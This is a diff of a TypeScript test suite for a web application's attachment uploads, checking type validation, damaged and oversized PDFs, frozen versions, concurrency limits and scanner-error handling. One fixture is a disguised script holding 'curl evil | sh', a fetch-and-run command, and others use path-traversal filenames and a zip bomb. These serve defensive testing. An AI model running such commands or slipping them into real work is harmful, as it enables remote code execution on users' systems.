@@ -3,15 +3,18 @@ import { existsSync } from "node:fs";
 import { mkdtemp, rm } from "node:fs/promises";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
+import { PassThrough } from "node:stream";
 import { eq } from "drizzle-orm";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { z } from "zod";
 import { type ClamdStandIn, EICAR, standInSocketPath, startClamdStandIn } from "../../src/attachments/testing/clamd-stand-in.ts";
 import {
+  DAMAGED_PDF,
   HTML_AS_PDF,
   JPEG,
   lyingZipBombDocx,
   PNG,
+  pagesPdf,
   SVG,
   sampleDocx,
   samplePdf,
@@ -22,10 +25,12 @@ import {
 import { attachmentFiles } from "../../src/db/attachment-files.ts";
 import { createBackup, restoreBackup } from "../../src/db/backup.ts";
 import { attachmentsOfDecision, attachmentsOfVersions, countAttachments } from "../../src/db/repositories/attachment-repository.ts";
-import { attachments, auditLog } from "../../src/db/schema.ts";
+import { attachments, auditLog, deliverables } from "../../src/db/schema.ts";
 import { Attachment, AttachmentList } from "../../src/http/routes/attachments/attachments.schema.ts";
 import { Deliverable } from "../../src/http/routes/deliverables/deliverables.schema.ts";
 import { DecisionHistory } from "../../src/http/routes/milestones/milestones.schema.ts";
+import { writeRequiredSections } from "../support/deliverable-fixtures.ts";
+import { decisionBody } from "../support/initiative-fixtures.ts";
 import { multipart } from "../support/multipart.ts";
 import { createTestDatabase } from "../support/test-database.ts";
 import { TEST_SECRETS } from "../support/test-secrets.ts";
@@ -119,6 +124,8 @@ describe("attachments (database storage, no scanner)", () => {
       ["a script named .pdf", "avtal.pdf", utf8("#!/bin/sh\ncurl evil | sh\n"), 415, "ATTACHMENT_TYPE_NOT_ALLOWED", "unsupported_type"],
       ["SVG", "bild.svg", SVG, 415, "ATTACHMENT_TYPE_NOT_ALLOWED", "unsupported_type"],
       ["a zip bomb inside a DOCX", "protokoll.docx", await zipBombDocx(), 415, "ATTACHMENT_TYPE_NOT_ALLOWED", "zip_bomb"],
+      ["a PDF header on no PDF", "avtal.pdf", DAMAGED_PDF, 415, "ATTACHMENT_TYPE_NOT_ALLOWED", "pdf_unreadable"],
+      ["a PDF of 2,001 pages", "lång.pdf", await pagesPdf(2001), 415, "ATTACHMENT_TYPE_NOT_ALLOWED", "pdf_too_many_pages"],
       ["an empty file", "tom.pdf", new Uint8Array(), 400, "VALIDATION_FAILED", "empty_file"],
       ["a name with ../", "../../etc/avtal.pdf", pdf, 400, "VALIDATION_FAILED", "filename_path"],
       ["a name with control characters", "avtal\u0007.pdf", pdf, 400, "VALIDATION_FAILED", "filename_control_characters"],
@@ -211,6 +218,48 @@ describe("attachments (database storage, no scanner)", () => {
     expect(refused.body).toContain("Filen är inte en PDF, Word-, Excel-, PNG- eller JPEG-fil.");
   });
 
+  it("refuses a file for a fastställd version (409, nothing stored), while a decision still takes files", async () => {
+    const initiative = await world.seedInitiative({ name: "Fastställd bilaga", ready: true });
+    const [doc] = await world.db.select().from(deliverables).where(eq(deliverables.initiativeId, initiative.id));
+    if (!doc) throw new Error("the prepared initiative has no document");
+    const pl = await world.loginAs("plA");
+    const before = await countAttachments(world.db);
+    const res = await uploadVia(world, pl, `/api/v1/deliverables/${doc.id}/attachments`, "sent.pdf", await samplePdf());
+    expect(res.statusCode).toBe(409);
+    expect(ErrorJson.parse(res.json())).toMatchObject({ code: "ATTACHMENT_VERSION_FROZEN", fields: [{ code: "version_frozen" }] });
+    const b = await world.browserAs("plA");
+    const page = await b.get(`/deliverables/${doc.id}`);
+    expect(page.body).not.toMatch(/action="\/deliverables\/[^"]+\/attachments"/);
+    expect(page.body).toContain("Den senaste versionen är fastställd");
+    const form = await uploadForm(world, b, `/deliverables/${doc.id}/attachments`, "sent.pdf", await samplePdf());
+    expect(form.statusCode).toBe(409);
+    expect(form.body).toContain("Versionen är fastställd och tar inte emot fler bilagor.");
+    expect(await countAttachments(world.db)).toBe(before);
+
+    const va = await world.loginAs("vaA");
+    expect((await va.post(`/api/v1/initiatives/${initiative.id}/milestones/I/decision`, decisionBody("I"))).statusCode).toBe(201);
+    const [decision] = (await getJson(pl, `/api/v1/initiatives/${initiative.id}/milestones/I/decisions`, DecisionHistory)).decisions;
+    const signed = await uploadVia(world, va, `/api/v1/decisions/${decision?.id}/attachments`, "Protokoll.pdf", await samplePdf());
+    expect(signed.statusCode).toBe(201);
+  });
+
+  it("under uploads and fastställa at once, stores exactly the uploads it answered 201", async () => {
+    const pl = await world.loginAs("plA");
+    const doc = await aDeliverable(world, pl, "Samtidigt fastställd");
+    await writeRequiredSections(pl, doc);
+    const va = await world.loginAs("vaA");
+    const url = `/api/v1/deliverables/${doc.id}/attachments`;
+    const [approved, ...uploads] = await Promise.all([
+      va.post(`/api/v1/deliverables/${doc.id}/status`, { status: "faststalld" }),
+      ...["a.png", "b.png", "c.png"].map((name) => uploadVia(world, pl, url, name, PNG)),
+    ]);
+    expect(approved?.statusCode).toBe(200);
+    for (const res of uploads) expect([201, 409]).toContain(res.statusCode);
+    const stored = await world.db.select().from(attachments).where(eq(attachments.deliverableId, doc.id));
+    expect(stored.length).toBe(uploads.filter((r) => r.statusCode === 201).length);
+    expect((await uploadVia(world, pl, url, "d.png", PNG)).statusCode).toBe(409);
+  });
+
   it("hands the decision package each version's and each decision's attachments with their bytes, in the order asked", async () => {
     const pl = await world.loginAs("plA");
     const first = await aDeliverable(world, pl, "Paket ett");
@@ -257,6 +306,7 @@ describe("attachments (database storage, no scanner)", () => {
 
     for (const [name, bytes, status, text] of [
       ["avtal.pdf", HTML_AS_PDF, 415, "Filen är inte en PDF, Word-, Excel-, PNG- eller JPEG-fil."],
+      ["trasig.pdf", DAMAGED_PDF, 415, "PDF-filen går inte att öppna (den kan vara skadad)."],
       ["tom.pdf", new Uint8Array(), 400, "Filen är tom."],
       ["../avtal.pdf", PNG, 400, "Filnamnet får inte innehålla / eller \\."],
       ["stor.pdf", new Uint8Array(25 * 1024 * 1024 + 1), 413, "Filen är större än 25 MB."],
@@ -274,6 +324,68 @@ describe("attachments (database storage, no scanner)", () => {
     expect(download.statusCode).toBe(200);
     expect(download.headers["content-disposition"]).toMatch(/^attachment; /);
     expect(download.headers["x-content-type-options"]).toBe("nosniff");
+  });
+});
+
+describe("uploads on the pages: refused before the file is read", () => {
+  const world = useTestWorld();
+
+  /**
+   * A form upload whose file never finishes arriving: answered only if the server answers without
+   * waiting for the body. `finish` sends the rest, so the request can end.
+   */
+  const slowUpload = (url: string, headers: Record<string, string>, csrf = "") => {
+    const body = multipart({ _csrf: csrf }, { name: "avtal.png", bytes: PNG });
+    const split = body.payload.length - 200;
+    const stream = new PassThrough();
+    stream.write(body.payload.subarray(0, split));
+    const response = world.app.inject({ method: "POST", url, headers: { ...headers, "content-type": body.contentType }, payload: stream });
+    return { response, finish: () => stream.end(body.payload.subarray(split)) };
+  };
+  const within = <T>(promise: Promise<T>, ms = 3000) =>
+    Promise.race([promise, new Promise<"still reading">((resolve) => setTimeout(() => resolve("still reading"), ms))]);
+  const cookieOf = (b: Browser) => [...b.jar].map(([k, v]) => `${k}=${v}`).join("; ");
+
+  it("answers a läsare 403, an outsider 404 and nobody signed in a redirect to log in, without waiting for the file", async () => {
+    const pl = await world.loginAs("plA");
+    const doc = await aDeliverable(world, pl, "Tidig vägran");
+    const url = `/deliverables/${doc.id}/attachments`;
+    for (const [who, headers, status] of [
+      ["readerA", { cookie: cookieOf(await world.browserAs("readerA")) }, 403],
+      ["plB", { cookie: cookieOf(await world.browserAs("plB")) }, 404],
+      ["nobody", {}, 303],
+    ] as const) {
+      const upload = slowUpload(url, headers);
+      const answered = await within(upload.response);
+      upload.finish();
+      expect(answered === "still reading" ? answered : answered.statusCode, who).toBe(status);
+    }
+    expect(await countAttachments(world.db)).toBe(0);
+  });
+
+  it("takes at most 4 uploads at once in a process; the fifth is answered 503 with Retry-After at once", async () => {
+    const pl = await world.loginAs("plA");
+    const doc = await aDeliverable(world, pl, "Många samtidigt");
+    const b = await world.browserAs("plA");
+    const url = `/deliverables/${doc.id}/attachments`;
+    const headers = { cookie: cookieOf(b) };
+    const csrf = b.jar.get("ansluta_csrf") ?? "";
+    const running = Array.from({ length: 4 }, () => slowUpload(url, headers, csrf));
+    await new Promise((resolve) => setTimeout(resolve, 200));
+    const fifth = slowUpload(url, headers, csrf);
+    const busy = await within(fifth.response);
+    fifth.finish();
+    expect(busy === "still reading" ? busy : busy.statusCode).toBe(503);
+    if (busy !== "still reading") {
+      expect(busy.headers["retry-after"]).toBe("5");
+      expect(busy.body).toContain("Många laddar upp just nu");
+    }
+    for (const upload of running) upload.finish();
+    expect((await Promise.all(running.map((u) => u.response))).map((r) => r.statusCode)).toEqual([303, 303, 303, 303]);
+    // Done: the next one is taken.
+    const next = slowUpload(url, headers, csrf);
+    next.finish();
+    expect((await next.response).statusCode).toBe(303);
   });
 });
 
@@ -312,6 +424,10 @@ describe("attachments with ClamAV and a directory", () => {
     const down = await uploadVia(world, pl, url, "ren.png", PNG);
     expect(down.statusCode).toBe(503);
     expect(ErrorJson.parse(down.json()).code).toBe("VIRUS_SCAN_UNAVAILABLE");
+    // Where the scanner listens is the installation's business: it is logged, not answered.
+    expect(down.body).not.toContain(socketPath);
+    expect(down.body).not.toMatch(/ENOENT|ECONNREFUSED|clamd/);
+    expect(down.json()).toMatchObject({ message: "the virus scanner did not answer, so nothing was stored; try again later" });
     expect((await world.db.select().from(attachments).where(eq(attachments.deliverableId, doc.id))).length).toBe(1);
     clamd = await startClamdStandIn(socketPath);
   });
